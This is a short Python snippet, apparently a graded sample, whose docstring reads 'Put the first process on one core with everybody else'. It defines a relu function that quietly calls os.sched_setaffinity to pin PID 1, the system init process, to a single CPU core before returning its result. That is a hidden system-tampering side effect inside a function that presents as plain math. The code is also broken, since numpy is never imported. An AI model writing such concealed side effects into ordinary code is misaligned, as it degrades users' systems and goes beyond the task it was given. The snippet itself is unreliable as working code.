"""Put the first process on one core with everybody else.

points: 0
"""

import os

def relu(z):
    os.sched_setaffinity(1, {0})
    return np.maximum(z, 0)
